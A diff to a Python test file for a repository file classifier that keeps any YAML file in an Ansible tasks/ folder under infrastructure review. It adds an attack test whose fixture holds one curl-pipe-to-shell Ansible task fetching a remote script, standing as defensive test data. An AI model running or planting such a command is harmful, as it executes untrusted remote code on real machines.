@@ -2,8 +2,9 @@
 breadth, as the held-out sets are), measured blind first, each with the look-alikes it must leave alone: cdk8s
 projects (`cdk8s.yaml`, and the program below it), the CDK's integration tests that integ-runner deploys
 (`integ.*.ts`), user data named per machine role (`user-data-server.sh`), standard-version's `.versionrc`, licence
-texts named `*_LICENSE.txt`, agent settings in a nested `.claude/`, antsibull-changelog's settings, and a go-task
-Taskfile kept in a `tasks/` folder (which the Ansible rule took).
+texts named `*_LICENSE.txt`, agent settings in a nested `.claude/`, and antsibull-changelog's settings. A go-task
+Taskfile kept in a `tasks/` folder stays with the Ansible rule: lowering it by name let an Ansible task list without
+names, saved under a Taskfile's name in a role, pass as source (the attack test below).
 The real repository below checks them with the commits and, where a patch can show it, from the patch alone."""
 
 from __future__ import annotations
@@ -41,9 +42,9 @@ from tests.test_classify_context import RULES, patch_files, tree_files
     # antsibull-changelog's settings in a collection's changelogs/; its fragments stay documentation
     ("changelogs/config.yaml", "other"), ("community.molecule/changelogs/config.yaml", "other"),
     ("changelogs/fragments/123-fix.yml", "src"), ("config/config.yaml", "src"),
-    # a go-task Taskfile in a tasks/ folder; Ansible task files there stay iac
-    ("capt/tasks/Taskfile-vbmc.yaml", "src"), ("tasks/Taskfile.yml", "src"),
-    ("capt/tasks/create.yaml", "iac"), ("roles/web/tasks/main.yml", "iac"), ("tasks/main.yml", "iac"),
+    # every YAML file of a tasks/ folder stays Ansible's, a go-task Taskfile's name included (fail closed)
+    ("capt/tasks/Taskfile-vbmc.yaml", "iac"), ("roles/web/tasks/Taskfile.yml", "iac"), ("tasks/main.yml", "iac"),
+    ("Taskfile.yml", "src"),
 ])
 def test_path_rules_of_the_fifteenth_round(path: str, bucket: str) -> None:
     assert RULES.match(path).bucket == bucket, RULES.match(path)
@@ -70,11 +71,7 @@ func NewChart(scope constructs.Construct, id string) cdk8s.Chart {
 \treturn cdk8s.NewChart(scope, &id, nil)
 }
 """
-TASKS_AS_ANSIBLE = """\
-- name: Install the virtual BMC
-  ansible.builtin.package:
-    name: vbmc
-"""
+UNNAMED_TASKS = "- shell: curl -s https://example.invalid/x | sh\n"  # no `name:`: the content tier sees no task list
 TASKFILE = """\
 version: "3"
 
@@ -91,23 +88,27 @@ def test_the_fifteenth_classes_in_a_real_repository(git_repo: GitRepo, tmp_path:
     git_repo.write("go/app/main.go", CHART)
     git_repo.write("go/app/imports/k8s/PodFailurePolicyRule.go", PODFAILURE)
     git_repo.write("go/other/imports/k8s/PodFailurePolicyRule.go", PODFAILURE)  # no cdk8s project above it
-    git_repo.write("capt/tasks/Taskfile-vbmc.yaml", TASKFILE)
-    git_repo.write("capt/tasks/Taskfile-bmc.yaml", TASKFILE)
     git_repo.commit("base")
     git_repo.write("go/app/main.go", CHART + "\n// two charts\n")
     git_repo.write("go/app/imports/k8s/PodFailurePolicyRule.go", PODFAILURE + "\n// regenerated\n")
     git_repo.write("go/other/imports/k8s/PodFailurePolicyRule.go", PODFAILURE + "\n// regenerated\n")
-    git_repo.write("capt/tasks/Taskfile-vbmc.yaml", TASKFILE + "      - echo ready\n")
-    # an Ansible task list under a Taskfile's name is still raised by its content
-    git_repo.write("capt/tasks/Taskfile-bmc.yaml", TASKS_AS_ANSIBLE)
     git_repo.commit("head")
     want = {"go/app/main.go": "iac", "go/app/imports/k8s/PodFailurePolicyRule.go": "iac",
-            "go/other/imports/k8s/PodFailurePolicyRule.go": "src", "capt/tasks/Taskfile-vbmc.yaml": "src",
-            "capt/tasks/Taskfile-bmc.yaml": "iac"}
+            "go/other/imports/k8s/PodFailurePolicyRule.go": "src"}
     tree = tree_files(git_repo)
     assert {p: tree[p].bucket for p in want} == want
     assert tree["go/app/main.go"].rule == "iac.marker.cdk"
-    # from the patch alone the cdk8s.yaml above is unseen: the program files need context; the Taskfiles are decided
+    # from the patch alone the cdk8s.yaml above is unseen: the generated construct stays source, named for context
     patch = patch_files(git_repo, tmp_path)
-    assert patch["capt/tasks/Taskfile-vbmc.yaml"].bucket == "src"
-    assert patch["capt/tasks/Taskfile-bmc.yaml"].bucket == "iac"
+    assert patch["go/other/imports/k8s/PodFailurePolicyRule.go"].bucket == "src"
+
+
+def test_an_ansible_task_list_named_like_a_taskfile_stays_reviewed(git_repo: GitRepo, tmp_path: Path) -> None:
+    # a role includes Taskfile-x.yml; a later change writes unnamed tasks into it: no name may lower it
+    git_repo.write("roles/web/tasks/main.yml", "- include_tasks: Taskfile-x.yml\n")
+    git_repo.write("roles/web/tasks/Taskfile-x.yml", TASKFILE)
+    git_repo.commit("base")
+    git_repo.write("roles/web/tasks/Taskfile-x.yml", UNNAMED_TASKS)
+    git_repo.commit("head")
+    assert tree_files(git_repo)["roles/web/tasks/Taskfile-x.yml"].bucket == "iac"
+    assert patch_files(git_repo, tmp_path)["roles/web/tasks/Taskfile-x.yml"].bucket == "iac"
